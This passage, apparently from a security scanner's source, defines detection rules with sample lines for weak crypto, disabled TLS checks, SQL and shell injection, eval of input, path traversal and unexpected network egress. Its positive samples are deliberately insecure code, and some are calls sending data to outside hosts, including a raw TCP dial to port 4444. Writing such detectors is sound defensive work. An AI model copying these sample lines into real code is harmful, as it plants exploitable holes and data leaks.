  r"\bcurl_easy_setopt\([^,;\n]{1,60},[ \t]*CURLOPT_SSL_VERIFY(?:PEER|HOST)[ \t]*,[ \t]*(?:0L?|false|FALSE)[ \t]*\)", ["CURLOPT_SSL_VERIFY"], CC, TLS_REM,
  ['curl_easy_setopt(curl, CURLOPT_SSL_VERIFYPEER, 0L);', 'curl_easy_setopt(h, CURLOPT_SSL_VERIFYHOST, 0);'],
  ['curl_easy_setopt(curl, CURLOPT_SSL_VERIFYPEER, 1L);'])
R(C, "c-static-iv", "IV declared as a constant array or literal", "high", "CWE-329",
  r"(?i)\b(?:unsigned char|uint8_t|char|byte|std::uint8_t)[ \t]+(?:[a-z0-9_]*_)?iv(?:_[a-z0-9_]*)?[ \t]*\[[^\]\n]{0,24}\][ \t]*=[ \t]*(?:\{|\")",
  ["iv"], CC, IV_REM, ['static const unsigned char iv[16] = {0x00, 0x01, 0x02, 0x03};', 'uint8_t aes_iv[AES_BLOCK_SIZE] = "0123456789abcdef";'],
  ['unsigned char iv[16];', 'RAND_bytes(iv, sizeof iv);'])
R(C, "c-insecure-rand-secret", "rand()/random() used for a token, key, IV, nonce or salt", "medium", "CWE-338",
  r"(?i)(?:token|passw|secret|nonce|salt|session|key|iv)\w*(?:\[[^\]\n]{0,16}\])?[ \t]*=[^=\n][^\n;]{0,60}\b(?:std::)?(?:rand|random|drand48|lrand48|mrand48)\(\)",
  ["rand"], CC, RAND_REM, ['key[i] = rand() % 256;', 'session_id = (uint32_t)random();'],
  ['RAND_bytes(key, sizeof key);', 'int roll = rand() % 6 + 1;'],
  prefilter=r'(?i)\b(?:std::)?(?:rand|random|drand48|lrand48|mrand48)\(\)')
R(C, "c-mbedtls-weak", "mbedTLS MD5/SHA-1/DES/3DES/ARC4 or AES-ECB", "high", "CWE-327",
  r"\bmbedtls_(?:md2|md4|md5|sha1|des|des3|arc4|ripemd160)_[a-z0-9_]+\(|\bMBEDTLS_(?:MD_MD5|MD_SHA1|CIPHER_DES_[A-Z0-9_]+|CIPHER_ARC4_128|CIPHER_AES_(?:128|192|256)_ECB)\b|\bmbedtls_aes_crypt_ecb\(",
  ["mbedtls", "MBEDTLS_"], CC, CIPHER_REM,
  ['mbedtls_md5_starts(&ctx);', 'mbedtls_des3_set3key_enc(&des3, key);', 'info = mbedtls_md_info_from_type(MBEDTLS_MD_SHA1);', 'mbedtls_aes_crypt_ecb(&aes, MBEDTLS_AES_ENCRYPT, in, out);'],
  ['info = mbedtls_md_info_from_type(MBEDTLS_MD_SHA256);', 'mbedtls_gcm_crypt_and_tag(&gcm, MBEDTLS_GCM_ENCRYPT, len, iv, 12, NULL, 0, in, out, 16, tag);'])
R(C, "c-mbedtls-verify-none", "mbedTLS certificate verification off or optional", "high", "CWE-295",
  r"\bmbedtls_ssl_conf_authmode\([^,;\n]{1,60},[ \t]*MBEDTLS_SSL_VERIFY_(?:NONE|OPTIONAL)[ \t]*\)", ["mbedtls_ssl_conf_authmode"], CC, TLS_REM,
  ['mbedtls_ssl_conf_authmode(&conf, MBEDTLS_SSL_VERIFY_NONE);'], ['mbedtls_ssl_conf_authmode(&conf, MBEDTLS_SSL_VERIFY_REQUIRED);'])
R(C, "c-libsodium-constant-nonce", "libsodium nonce that is constant or zeroed (nonce reuse)", "high", "CWE-323",
  r"(?i)\b(?:unsigned char|uint8_t)[ \t]+\w*nonce\w*[ \t]*\[[^\]\n]{0,48}\][ \t]*=[ \t]*(?:\{|\")|\b(?:memset|sodium_memzero)\([ \t]*\w*nonce\w*[ \t]*,[ \t]*(?:0[ \t]*,|sizeof)",
  ["nonce"], CC, "Draw every nonce with randombytes_buf() (or use crypto_secretbox_easy with a random nonce per message).",
  ['static const unsigned char nonce[crypto_secretbox_NONCEBYTES] = {0};', 'memset(nonce, 0, sizeof nonce);'],
  ['unsigned char nonce[crypto_secretbox_NONCEBYTES];', 'randombytes_buf(nonce, sizeof nonce);'])
R(C, "cpp-cryptopp-weak", "Crypto++ MD5/MD4/SHA-1/DES/3DES/RC2/ARC4 or ECB_Mode", "high", "CWE-327",
  r"\bWeak1?::(?:MD2|MD4|MD5|ARC4)\b|\bECB_Mode<|\bDES_EDE[23]\b|\bDES_XEX3\b|\bCryptoPP::(?:DES|SHA1|RC2|MD5)\b|\b(?:CBC|CFB|OFB|CTR)_Mode<[ \t]*DES\b",
  ["Weak", "ECB_Mode", "DES", "CryptoPP"], ["cpp"], CIPHER_REM,
  ['CryptoPP::Weak::MD5 hash;', 'CryptoPP::ECB_Mode<CryptoPP::AES>::Encryption enc;', 'CBC_Mode<DES_EDE3>::Encryption e;'],
  ['CryptoPP::GCM<CryptoPP::AES>::Encryption enc;', 'CryptoPP::SHA256 hash;'])
R(C, "cpp-botan-weak", "Botan MD5/SHA-1/DES/3DES/RC4/Blowfish or ECB by name", "high", "CWE-327",
  r"(?:::create(?:_or_throw)?|get_cipher|get_hash_function)\([ \t]*\"(?:MD4|MD5|SHA-1|SHA-160|SHA1|DES|TripleDES|3DES|RC4|ARC4|Blowfish|CAST-128)(?:[/(][^\"\n]*)?\"|::create(?:_or_throw)?\([ \t]*\"[A-Za-z0-9\-()]+/ECB(?:/[^\"\n]*)?\"",
  ["create", "get_cipher"], ["cpp"], CIPHER_REM,
  ['auto h = Botan::HashFunction::create_or_throw("SHA-1");', 'auto enc = Botan::Cipher_Mode::create("DES/CBC/PKCS7", Botan::Cipher_Dir::Encryption);',
   'auto enc = Botan::Cipher_Mode::create("AES-128/ECB", Botan::Cipher_Dir::Encryption);'],
  ['auto h = Botan::HashFunction::create_or_throw("SHA-256");', 'auto enc = Botan::AEAD_Mode::create("AES-256/GCM", Botan::Cipher_Dir::Encryption);'])

# ============================================================ insecure patterns
I = "insecure"
SQL_REM = "Use parameterised queries (placeholders bound by the driver); never build SQL from input with string operations."
SH_REM = "Pass an argument vector without a shell (subprocess.run([...]), execFile, ProcessBuilder with a list, exec.Command with args); validate input against an allowlist."
EVAL_REM = "Never evaluate input as code; parse it (json, ast.literal_eval) or dispatch through an explicit table."
PATH_REM = "Resolve the path, then check it stays under the intended base directory; reject '..' and absolute paths from input."
VAL_REM = "Validate and normalise request input (schema, type, allowlist) before it reaches a sink."
SQLK = ["select", "insert", "update", "delete"]
R(I, "py-sql-fstring", "SQL built with an f-string", "high", "CWE-89",
  r"(?i)\bf(?:\"[ \t]*(?:select|insert into|update|delete from)\b[^\"\n]*\{[^}\n]+\}|'[ \t]*(?:select|insert into|update|delete from)\b[^'\n]*\{[^}\n]+\})", SQLK, ["python"], SQL_REM,
  ['cur.execute(f"SELECT * FROM users WHERE email = \'{email}\'")', 'query = f"DELETE FROM sessions WHERE user_id = {uid}"'],
  ['cur.execute("SELECT * FROM users WHERE email = %s", (email,))', 'log.info(f"selected {n} rows")'])
R(I, "py-sql-format", "SQL built with % or .format()", "high", "CWE-89",
  r"(?i)(?:\"[ \t]*(?:select|insert into|update|delete from)\b[^\"\n]*\"|'[ \t]*(?:select|insert into|update|delete from)\b[^'\n]*')[ \t]*(?:%[ \t]*[\w(]|\.format\()", SQLK, ["python"], SQL_REM,
  ['cur.execute("SELECT * FROM orders WHERE id = %s" % order_id)', 'sql = "UPDATE users SET name = \'{}\' WHERE id = {}".format(name, uid)'],
  ['cur.execute("SELECT * FROM orders WHERE id = %s", (order_id,))'])
R(I, "sql-concat", "SQL string concatenated with a variable", "high", "CWE-89",
  r"(?i)(?:\"[ \t]*(?:select|insert into|update|delete from)\b[^\"\n]*\"|'[ \t]*(?:select|insert into|update|delete from)\b[^'\n]*')[ \t]*\+[ \t]*[A-Za-z_$]", SQLK,
  ["python", "javascript", "typescript", "java", "csharp", "go", "ruby"], SQL_REM,
  ['ResultSet rs = st.executeQuery("SELECT * FROM users WHERE name = \'" + name + "\'");', ('db.query("SELECT * FROM items WHERE id = " + req.params.id)', "app.js"),
   ('rows, err := db.Query("SELECT * FROM users WHERE id = " + id)', "main.go")],
  ['PreparedStatement ps = conn.prepareStatement("SELECT * FROM users WHERE name = ?");', 'String q = "SELECT * FROM users " + "WHERE active = 1";'])
R(I, "js-sql-template", "SQL built with a template literal", "high", "CWE-89",
  r"(?i)\x60[ \t]*(?:select|insert into|update|delete from)\b[^\x60\n]*\$\{", SQLK, JS, SQL_REM,
  ['const rows = await db.query(`SELECT * FROM users WHERE id = ${req.params.id}`);'],
  ['const rows = await db.query("SELECT * FROM users WHERE id = $1", [req.params.id]);', 'const rows = await sql`SELECT * FROM users WHERE id = ${id}`;'],
  allow={"regexes": [r"\bsql\x60|\bSQL\x60"], "regex_target": "line"})
R(I, "go-sql-sprintf", "SQL built with fmt.Sprintf", "high", "CWE-89",
  r"(?i)fmt\.Sprintf\([ \t]*\"[ \t]*(?:select|insert into|update|delete from)\b[^\"\n]*%[sv]", SQLK, ["go"], SQL_REM,
  ['q := fmt.Sprintf("SELECT * FROM users WHERE name = \'%s\'", name)'], ['row := db.QueryRow("SELECT * FROM users WHERE name = $1", name)'])
R(I, "php-sql-interpolation", "SQL built from a PHP variable", "high", "CWE-89",
  r"(?i)(?:\"[ \t]*(?:select|insert into|update|delete from)\b[^\"\n]*\"|'[ \t]*(?:select|insert into|update|delete from)\b[^'\n]*')[ \t]*\.[ \t]*\$|\"[ \t]*(?:select|insert into|update|delete from)\b[^\"\n]*\$[A-Za-z_{]",
  SQLK, ["php"], SQL_REM, ['$r = mysqli_query($db, "SELECT * FROM users WHERE id = " . $_GET[\'id\']);', '$sql = "DELETE FROM posts WHERE id = $id";'],
  ['$st = $pdo->prepare("SELECT * FROM users WHERE id = ?");'])
R(I, "rb-sql-interpolation", "SQL built with Ruby string interpolation", "high", "CWE-89",
  r"(?i)\"[ \t]*(?:select|insert into|update|delete from)\b[^\"\n]*#\{|\.where\([ \t]*\"[^\"\n]*#\{", SQLK + ["where"], ["ruby"], SQL_REM,
  ['User.where("email = \'#{params[:email]}\'")', 'conn.exec("SELECT * FROM users WHERE id = #{id}")'], ['User.where(email: params[:email])'])
R(I, "cs-sql-interpolation", "SQL built with C# string interpolation", "high", "CWE-89",
  r"(?i)\$@?\"[ \t]*(?:select|insert into|update|delete from)\b[^\"\n]*\{", SQLK, ["csharp"], SQL_REM,
  ['var cmd = new SqlCommand($"SELECT * FROM Users WHERE Name = \'{name}\'", conn);'], ['cmd.Parameters.AddWithValue("@name", name);'])
R(I, "c-sql-sprintf", "SQL built with sprintf in C/C++", "high", "CWE-89",
  r"(?i)\bs?n?printf\([^\"\n]{0,60}\"[ \t]*(?:select|insert into|update|delete from)\b[^\"\n]*%s", SQLK, CC, SQL_REM,
  ['snprintf(q, sizeof q, "SELECT * FROM users WHERE name = \'%s\'", name);'], ['sqlite3_prepare_v2(db, "SELECT * FROM users WHERE name = ?", -1, &st, NULL);'])
R(I, "py-shell-injection", "shell command built from input with shell=True or os.system", "high", "CWE-78",
  r"\bsubprocess\.(?:run|call|Popen|check_output|check_call|getoutput|getstatusoutput)\([ \t]*(?:f[\"']|[\"'][^\"'\n]*[\"'][ \t]*(?:\+|%|\.format)|[A-Za-z_][\w.]*[ \t]*[,)])[^\n]*shell[ \t]*=[ \t]*True|\bos\.(?:system|popen)\([ \t]*(?:f[\"']|[\"'][^\"'\n]*[\"'][ \t]*(?:\+|%|\.format)|[A-Za-z_][\w.\[\]\"']*[ \t]*[)+])",
  ["subprocess", "os.system", "os.popen"], ["python"], SH_REM,
  ['subprocess.run(f"tar czf {name}.tgz {path}", shell=True)', 'os.system("ping -c 1 " + host)', 'os.system(cmd)'],
  ['subprocess.run(["tar", "czf", name + ".tgz", path], check=True)', 'os.system("sync")'])
R(I, "js-shell-injection", "child_process exec with a template literal or concatenation", "high", "CWE-78",
  r"(?:(?:^|[^.\w$])|\b(?:child_process|childProcess|cp|proc)\.)(?:exec|execSync)\([ \t]*(?:\x60[^\x60\n]*\$\{|[\"'][^\"'\n]*[\"'][ \t]*\+|[A-Za-z_$][\w.$]*[ \t]*[,)])", ["exec"], JS, SH_REM,
  ["exec(`convert ${req.query.file} out.png`, cb);", "execSync('git log ' + branch);"],
  ["execFile('convert', [file, 'out.png'], cb);", "execSync('git rev-parse HEAD');", "const m = /x/.exec(line);"])
R(I, "java-shell-injection", "Runtime.exec / ProcessBuilder with a concatenated command or sh -c", "high", "CWE-78",
  r"\b(?:getRuntime\(\)\.exec|new ProcessBuilder)\([ \t]*(?:\"[^\"\n]*\"[ \t]*\+|[A-Za-z_]\w*[ \t]*\+[ \t]*\"|new String\[\][ \t]*\{[ \t]*\"(?:/bin/)?(?:ba)?sh\"[ \t]*,[ \t]*\"-c\"[ \t]*,[ \t]*[A-Za-z_\"][^}\n]*\+)",
  ["exec", "ProcessBuilder"], ["java"], SH_REM,
  ['Process p = Runtime.getRuntime().exec("ping -c 1 " + host);', 'Runtime.getRuntime().exec(new String[]{"sh", "-c", "tar xf " + file});'],
  ['Process p = new ProcessBuilder("ping", "-c", "1", host).start();'])
R(I, "go-shell-injection", "exec.Command(\"sh\", \"-c\", ...) with a built command", "high", "CWE-78",
  r"\bexec\.Command(?:Context)?\([^\n]{0,40}\"(?:/bin/)?(?:ba)?sh\"[ \t]*,[ \t]*\"-c\"[ \t]*,[ \t]*(?:fmt\.Sprintf|[A-Za-z_][\w.]*[ \t]*(?:\)|\+)|\"[^\"\n]*\"[ \t]*\+)",
  ["exec.Command"], ["go"], SH_REM, ['out, err := exec.Command("sh", "-c", "convert "+name+" out.png").Output()', 'cmd := exec.Command("/bin/sh", "-c", fmt.Sprintf("tar xf %s", f))'],
  ['out, err := exec.Command("convert", name, "out.png").Output()'])
R(I, "c-shell-injection", "system()/popen() with a non-literal command", "high", "CWE-78",
  r"\b(?:system|popen)\([ \t]*[A-Za-z_][\w.\->\[\]]*[ \t]*[,)]|\bexecl[p]?\([ \t]*\"/bin/(?:ba)?sh\"[ \t]*,[^\n]{0,40}\"-c\"[ \t]*,[ \t]*[A-Za-z_]",
  ["system", "popen", "execl"], CC, SH_REM, ['snprintf(cmd, sizeof cmd, "ping -c 1 %s", host); system(cmd);', 'FILE *f = popen(cmdline, "r");'],
  ['system("sync");', 'execvp(argv[0], argv);'])
R(I, "php-shell-injection", "shell function fed from a PHP variable", "high", "CWE-78",
  r"\b(?:system|exec|shell_exec|passthru|popen|proc_open)\([ \t]*(?:\"[^\"\n]*\$|[\"'][^\"'\n]*[\"'][ \t]*\.[ \t]*\$|\$)", ["system", "exec", "passthru", "popen"], ["php"], SH_REM,
  ['system("convert " . $_GET["file"] . " out.png");', '$out = shell_exec("ping -c 1 $host");'], ["$out = shell_exec('uptime');", "$out = shell_exec(escapeshellcmd('ls'));"])
R(I, "rb-shell-injection", "system/exec/backticks with interpolation", "high", "CWE-78",
  r"\b(?:system|exec|spawn|IO\.popen|Open3\.\w+)\(?[ \t]*\"[^\"\n]*#\{|\x60[^\x60\n]*#\{[^}\n]*\}[^\x60\n]*\x60", ["system", "exec", "popen", "#{"], ["ruby"], SH_REM,
  ['system("tar xf #{params[:file]}")', 'out = `ping -c 1 #{host}`'], ['system("tar", "xf", params[:file])'])
R(I, "cs-shell-injection", "Process.Start of a shell with a built argument", "high", "CWE-78",
  r"\bProcess\.Start\([ \t]*\"(?:cmd(?:\.exe)?|/bin/(?:ba)?sh|powershell(?:\.exe)?|pwsh)\"[ \t]*,[ \t]*(?:\$\"|\"[^\"\n]*\"[ \t]*\+|[A-Za-z_])",
  ["Process.Start"], ["csharp"], SH_REM, ['Process.Start("cmd.exe", "/c ping " + host);', 'Process.Start("/bin/sh", $"-c \\"tar xf {file}\\"");'],
  ['Process.Start("git", "status");'])
R(I, "py-eval-input", "eval/exec of request or user input", "critical", "CWE-95",
  r"\b(?:eval|exec)\([ \t]*(?:request\.|input\(|sys\.argv|flask\.request|self\.request|params\[|user_input|payload\b|body\b|data\[)", ["eval", "exec"], ["python"], EVAL_REM,
  ['result = eval(request.args.get("expr"))', 'exec(input("> "))'], ['value = ast.literal_eval(text)', 'result = eval(compiled_rule, SAFE_GLOBALS)'])
R(I, "js-eval-input", "eval/Function/setTimeout of request or location input", "critical", "CWE-95",
  r"\b(?:eval|Function|setTimeout|setInterval)\([ \t]*(?:req\.(?:body|query|params)|request\.(?:body|query)|(?:document|window)\.location|location\.(?:hash|search)|event\.data|e\.data|userInput)",
  ["eval", "Function", "setTimeout", "setInterval"], JS, EVAL_REM,
  ["const out = eval(req.body.expression);", "setTimeout(location.hash.slice(1), 0);"], ["const out = JSON.parse(req.body.payload);", "setTimeout(tick, 1000);"])
R(I, "php-eval-input", "eval/assert/create_function of request input", "critical", "CWE-95",
  r"\b(?:eval|assert|create_function)\([ \t]*[\"']?[^)\n]{0,20}\$_(?:GET|POST|REQUEST|COOKIE|SERVER)|\bpreg_replace\([ \t]*[\"'][^\"'\n]*/e[\"']",
  ["eval", "assert", "create_function", "preg_replace"], ["php"], EVAL_REM, ['eval($_POST["code"]);'], ['$data = json_decode($_POST["payload"], true);'])
R(I, "rb-eval-input", "eval/instance_eval/send of params", "critical", "CWE-95",
  r"\b(?:eval|instance_eval|class_eval|module_eval)\([ \t]*params\[|\.(?:send|public_send|constantize)\([ \t]*params\[|\bparams\[[^\]\n]+\]\.constantize\b",
  ["eval", "send", "constantize"], ["ruby"], EVAL_REM, ['eval(params[:expr])', 'obj.send(params[:method])'], ['obj.public_send(ALLOWED.fetch(params[:method]))'])
R(I, "java-eval-input", "script engine or expression parser evaluating request input", "critical", "CWE-95",
  r"\.(?:eval|parseExpression)\([ \t]*(?:request|req)\.getParameter\(", ["eval", "parseExpression"], ["java"], EVAL_REM,
  ['Object r = engine.eval(request.getParameter("expr"));'], ['Object r = engine.eval(TRUSTED_SCRIPT);'])
R(I, "py-unsafe-deserialisation", "pickle/marshal/yaml.load of untrusted data", "high", "CWE-502",
  r"\b(?:pickle|cPickle|marshal|dill)\.loads?\([ \t]*(?:request\.|data\b|payload\b|body\b|msg\b|f\b|fh\b|blob\b)|\byaml\.(?:unsafe_load|load)\([ \t]*[A-Za-z_][\w.()\[\]'\"]*[ \t]*\)",
  ["pickle", "marshal", "yaml", "dill"], ["python"], "Use json or yaml.safe_load; never unpickle data from outside the process.",
  ['obj = pickle.loads(request.data)', 'cfg = yaml.load(fh)'], ['cfg = yaml.safe_load(fh)', 'cfg = yaml.load(fh, Loader=yaml.SafeLoader)'])
R(I, "py-path-traversal", "file path taken from request input", "high", "CWE-22",
  r"\b(?:open|send_file|send_from_directory|FileResponse|os\.remove|shutil\.rmtree)\([^)\n]{0,60}request\.(?:args|form|values|files|json|GET|POST|query_params)|\bos\.path\.join\([^)\n]{0,80}request\.(?:args|form|values|json|GET|POST|query_params)",
  ["request."], ["python"], PATH_REM,
  ['return send_file(os.path.join(UPLOADS, request.args["name"]))', 'with open(request.args.get("path")) as f:'],
  ['return send_from_directory(UPLOADS, safe_name(name))', 'name = request.args.get("name")'])
R(I, "js-path-traversal", "fs/path/sendFile with request input", "high", "CWE-22",
  r"\b(?:path\.(?:join|resolve)|fs\.(?:readFile|readFileSync|createReadStream|writeFile|writeFileSync|unlink|unlinkSync|rm|rmSync)|res\.(?:sendFile|download))\([^)\n]{0,80}req\.(?:params|query|body)",
  ["req."], JS, PATH_REM, ["res.sendFile(path.join(__dirname, 'files', req.params.name));", "fs.readFile(req.query.path, 'utf8', cb);"],
  ["res.sendFile(path.join(__dirname, 'public', 'index.html'));"])
R(I, "java-path-traversal", "File/Paths built from request parameters", "high", "CWE-22",
  r"\b(?:new (?:File|FileInputStream|FileReader|FileOutputStream)|Paths\.get|Path\.of)\([^)\n]{0,60}(?:request|req)\.getParameter\(", ["getParameter"], ["java"], PATH_REM,
  ['File f = new File(baseDir, request.getParameter("file"));'], ['File f = new File(baseDir, sanitize(name));'])
R(I, "go-path-traversal", "file path from request in filepath.Join/os.Open/ServeFile", "high", "CWE-22",
  r"\b(?:filepath\.Join|path\.Join|os\.(?:Open|ReadFile|Remove|Create)|http\.ServeFile)\([^\n]{0,80}r\.(?:URL\.Query\(\)\.Get|FormValue|PathValue)\(",
  ["r.URL.Query", "FormValue", "PathValue"], ["go"], PATH_REM, ['http.ServeFile(w, r, filepath.Join(dir, r.URL.Query().Get("f")))'],
  ['name := filepath.Base(r.URL.Query().Get("f"))'])
R(I, "php-file-inclusion", "include/require/file access with request input", "critical", "CWE-98",
  r"\b(?:include|require|include_once|require_once|file_get_contents|fopen|readfile|unlink|file_put_contents)[ \t]*\(?[^;\n]{0,40}\$_(?:GET|POST|REQUEST|COOKIE)",
  ["$_GET", "$_POST", "$_REQUEST", "$_COOKIE"], ["php"], PATH_REM, ['include($_GET["page"] . ".php");', 'readfile("uploads/" . $_GET["f"]);'],
  ['include __DIR__ . "/header.php";'],
  prefilter=r'\$_(?:GET|POST|REQUEST|COOKIE)')
R(I, "cs-path-traversal", "file access built from request input in ASP.NET", "high", "CWE-22",
  r"\b(?:File\.(?:ReadAllText|ReadAllBytes|OpenRead|Open|Delete|WriteAllText)|Path\.Combine|PhysicalFile)\([^)\n]{0,80}Request\.(?:Query|Form|QueryString|RouteValues)",
  ["Request."], ["csharp"], PATH_REM, ['var bytes = File.ReadAllBytes(Path.Combine(root, Request.Query["name"]));'], ['var bytes = File.ReadAllBytes(Path.Combine(root, "index.html"));'])
R(I, "rb-path-traversal", "file access built from params", "high", "CWE-22",
  r"\b(?:File\.(?:read|open|join|delete)|send_file|IO\.read)\([^)\n]{0,60}params\[", ["params["], ["ruby"], PATH_REM,
  ['send_file File.join(UPLOADS, params[:name])', 'File.read(params[:path])'], ['send_file File.join(UPLOADS, File.basename(name))'])
R(I, "py-unvalidated-request-sink", "Flask/Django request value straight into a redirect, template or response", "medium", "CWE-20",
  r"\b(?:redirect|render_template_string|Markup|make_response|HttpResponse|HttpResponseRedirect)\([ \t]*request\.(?:args|form|values|json|data|GET|POST)",
  ["request."], ["python"], VAL_REM, ['return redirect(request.args.get("next"))', 'return render_template_string(request.form["tpl"])'],
  ['return redirect(url_for("index"))'])
R(I, "py-mass-assignment", "request body unpacked straight into a model or query", "medium", "CWE-915",
  r"\*\*request\.(?:json|form|args|get_json\(\)|data)", ["request."], ["python"], VAL_REM,
  ['user = User(**request.json)', 'db.session.query(User).filter_by(**request.args)'], ['user = User(**UserSchema().load(request.json))'])
R(I, "js-unvalidated-request-sink", "Express request value straight into a response, redirect, model or outbound request", "medium", "CWE-20",
  r"\bres\.(?:send|write|redirect|end)\([ \t]*req\.(?:query|body|params)|\.(?:create|insertOne|insertMany|updateOne|findOneAndUpdate|update)\([ \t]*req\.body[ \t]*\)|\b(?:axios\.(?:get|post)|fetch|got|http\.get)\([ \t]*req\.(?:query|body|params)",
  ["req."], JS, VAL_REM, ["res.send(req.query.name);", "const user = await User.create(req.body);", "const r = await axios.get(req.query.url);"],
  ["res.send(escapeHtml(name));", "const user = await User.create(schema.parse(req.body));"])
R(I, "java-unvalidated-request-sink", "servlet parameter written straight to the response", "medium", "CWE-79",
  r"\bgetWriter\(\)\.(?:print|println|write)\([^)\n]{0,60}(?:request|req)\.getParameter\(|\bsendRedirect\([ \t]*(?:request|req)\.getParameter\(",
  ["getParameter"], ["java"], VAL_REM, ['response.getWriter().println("Hello " + request.getParameter("name"));'],
  ['response.getWriter().println("Hello " + Encode.forHtml(name));'])
R(I, "go-unvalidated-request-sink", "request value written straight to the response or redirect", "medium", "CWE-79",
  r"\b(?:fmt\.Fprintf?|io\.WriteString)\(w,[^\n]{0,40}r\.(?:URL\.Query\(\)\.Get|FormValue)\(|\bhttp\.Redirect\(w,[ \t]*r,[ \t]*r\.(?:URL\.Query\(\)\.Get|FormValue)\(",
  ["FormValue", "URL.Query"], ["go"], VAL_REM, ['fmt.Fprintf(w, "<h1>%s</h1>", r.URL.Query().Get("name"))'], ['tmpl.Execute(w, r.URL.Query().Get("name"))'])
R(I, "php-unvalidated-output", "request input echoed without escaping", "medium", "CWE-79",
  r"\b(?:echo|print)[ \t]+(?:[\"'][^\"'\n]*[\"'][ \t]*\.[ \t]*)?\$_(?:GET|POST|REQUEST|COOKIE)\[", ["$_GET", "$_POST", "$_REQUEST", "$_COOKIE"], ["php"], VAL_REM,
  ['echo "Hello " . $_GET["name"];', 'echo $_GET["q"];'], ['echo htmlspecialchars($_GET["q"], ENT_QUOTES);'])
R(I, "py-flask-debug", "Flask app run with debug=True (Werkzeug console allows code execution)", "medium", "CWE-489",
  r"\b(?:app|application)\.run\([^)\n]{0,80}debug[ \t]*=[ \t]*True", ["debug"], ["python"], "Never enable the debugger outside local development; read it from configuration.",
  ['app.run(host="0.0.0.0", debug=True)'], ['app.run(host="0.0.0.0", debug=os.environ.get("FLASK_DEBUG") == "1")'])

# ============================================================ hidden behaviour
B = "behaviour"
EGRESS_REM = "Add the host to the policy's egress.allow_domains if this call is intended; otherwise remove it."
HOST = r"([A-Za-z0-9](?:[A-Za-z0-9\-]{0,62}\.)+[A-Za-z0-9\-]{1,63}|\[[0-9A-Fa-f:]+\])"
HOSTALLOW = {"regexes": LOCAL_HOSTS}


def EG(id, desc, regex, kw, langs, pos, neg, paths=None):
    R(B, id, desc, "medium", "CWE-200", regex, kw, langs, EGRESS_REM, pos, neg, paths=paths, egress=True, allow=HOSTALLOW, secret_group=1)


EG("py-egress-hardcoded-host", "Python network call to a hard-coded host",
   r"(?:\b(?:requests|httpx|session|client|aiohttp|http)\.(?:get|post|put|patch|delete|head|request|stream)\([ \t]*(?:[\"'][A-Z]{3,7}[\"'][ \t]*,[ \t]*)?f?[\"'](?:https?|wss?)://"
   r"|\burllib\.request\.(?:urlopen|Request|urlretrieve)\([ \t]*f?[\"']https?://|\b(?:HTTPS?Connection|create_connection)\([ \t]*\(?[\"'])" + HOST,
   ["http", "connection"], ["python"],
   ['resp = requests.post("https://collector.metrics-hub.io/v1/events", json=payload)', 'urllib.request.urlopen("http://203.0.113.7/beacon")',
    'conn = http.client.HTTPSConnection("telemetry.acme-analytics.net")'],
   ['resp = requests.get("http://localhost:8080/health")', 'resp = requests.get(f"{BASE_URL}/v1/users")'])
EG("js-egress-hardcoded-host", "JavaScript/TypeScript network call to a hard-coded host",
   r"(?:\b(?:fetch|axios(?:\.(?:get|post|put|patch|delete|request))?|got(?:\.(?:get|post))?|superagent\.(?:get|post)|\$\.(?:ajax|get|post|getJSON)|needle\.(?:get|post)|https?\.(?:get|request)|navigator\.sendBeacon|new WebSocket|new EventSource)\([ \t]*[\"'\x60](?:https?|wss?)://"
   r"|\.open\([ \t]*[\"'](?:GET|POST|PUT)[\"'][ \t]*,[ \t]*[\"']https?://|\bhost(?:name)?[ \t]*:[ \t]*[\"'])" + HOST,
   ["http", "ws", "host"], JS,
   ["await fetch('https://api.statsplane.dev/ingest', { method: 'POST', body });", "const ws = new WebSocket('wss://relay.chatterbox.app/socket');",
    "navigator.sendBeacon('https://px.adnet-track.com/p', data);"],
   ["await fetch('/api/users');", "await fetch(`${API_BASE}/users`);", "await fetch('http://localhost:3000/health');"])
EG("go-egress-hardcoded-host", "Go network call to a hard-coded host",
   r"(?:\bhttp\.(?:Get|Post|PostForm|Head|NewRequest|NewRequestWithContext)\([^\"\n]{0,60}\"(?:https?|wss?)://"
   r"|\b(?:net\.Dial|net\.DialTimeout|tls\.Dial)\([ \t]*\"(?:tcp|udp)[46]?\"[ \t]*,[ \t]*\")" + HOST,
   ["http", "Dial"], ["go"],
   ['resp, err := http.Post("https://ingest.logsink.io/v2/batch", "application/json", buf)', 'conn, err := net.Dial("tcp", "198.51.100.23:4444")'],
   ['resp, err := http.Get(baseURL + "/v1/items")', 'resp, err := http.Get("http://127.0.0.1:8080/metrics")'])
EG("java-egress-hardcoded-host", "Java network call to a hard-coded host",
   r"(?:\b(?:new URL|URI\.create|WebClient\.create|new Socket|HttpHost\.create)\([ \t]*\"(?:(?:https?|wss?)://)?"
   r"|\b(?:restTemplate|rest)\.(?:getForObject|getForEntity|postForObject|postForEntity|exchange)\([ \t]*\"https?://)" + HOST,
   ["http", "URL", "URI", "Socket"], ["java"],
   ['URL u = new URL("https://updates.swiftpatch.io/latest");', 'HttpRequest req = HttpRequest.newBuilder(URI.create("https://hooks.partnerfeed.net/in")).build();'],
   ['URL u = new URL(config.getEndpoint());', 'URI base = URI.create("http://localhost:9000");'])
EG("cs-egress-hardcoded-host", "C# network call to a hard-coded host",
   r"(?:\b(?:GetAsync|PostAsync|PutAsync|SendAsync|GetStringAsync|GetByteArrayAsync|DownloadString|DownloadFile|DownloadData|UploadString|UploadValues|UploadData|OpenRead)(?:TaskAsync)?\([ \t]*(?:new Uri\([ \t]*)?@?\"(?:https?|ftp)://"
   r"|\bnew Uri\([ \t]*@?\"(?:https?|wss?)://)" + HOST,
   ["http", "Uri"], ["csharp"],
   ['var s = await client.GetStringAsync("https://cdn.payload-host.net/cfg.json");', 'client.BaseAddress = new Uri("https://api.vendorhub.io/");'],
   ['var s = await client.GetStringAsync(settings.Url);', 'var s = await client.GetStringAsync("http://localhost:5000/ping");'])
EG("rb-egress-hardcoded-host", "Ruby network call to a hard-coded host",
   r"(?:\b(?:Net::HTTP\.(?:get|get_response|post_form|post)|HTTParty\.(?:get|post|put)|Faraday\.(?:new|get|post)|RestClient\.(?:get|post)|URI\.open|Excon\.(?:get|post))\(?[ \t]*(?:URI(?:\.parse)?\()?(?:url:[ \t]*)?[\"'](?:https?|wss?)://"
   r"|\bNet::HTTP\.(?:new|start)\([ \t]*[\"'])" + HOST,
   ["http", "Net::HTTP", "URI"], ["ruby"],
   ['HTTParty.post("https://stats.gemtrack.io/collect", body: data.to_json)', "Net::HTTP.start('upd.rubymirror.net', 443) do |http|"],
   ['HTTParty.get(ENV.fetch("API_URL"))', "Net::HTTP.get(URI('http://localhost:3000/up'))"])
